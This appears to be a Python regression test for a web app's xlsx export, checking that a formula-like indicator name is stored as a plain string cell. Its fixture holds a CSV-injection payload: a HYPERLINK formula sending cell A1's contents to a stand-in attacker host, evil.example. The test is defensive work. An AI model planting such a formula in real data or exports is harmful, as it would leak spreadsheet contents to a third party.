"""Exports write user text as text: a featured-indicator name that looks like a formula is
a string cell in the downloaded workbook, never a live formula (CSV injection, OWASP)."""

import io

from openpyxl import load_workbook

from matchhub.core.extensions import db
from matchhub.zones.entries import recording as entries
from tests.web.helpers import login
from tests.zones.helpers import LANZHOU, platform_admin, zone_admin

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"点击查看")'


def _formula_cells(workbook) -> list:
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def test_a_formula_in_a_featured_indicator_name_is_exported_as_text(client):
    entries.set_featured(db.session, zone_admin(), LANZHOU, 2016, FORMULA, "项",
                         target="100", value="60")
    login(client, platform_admin())
    for url in ("/zones/export.xlsx?year=2016", f"/zones/{LANZHOU}/export.xlsx?year=2016"):
        response = client.get(url)
        assert response.status_code == 200
        workbook = load_workbook(io.BytesIO(response.data))
        assert _formula_cells(workbook) == []
        cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row
                 if c.value == FORMULA]
        assert cells and all(c.data_type == "s" for c in cells)
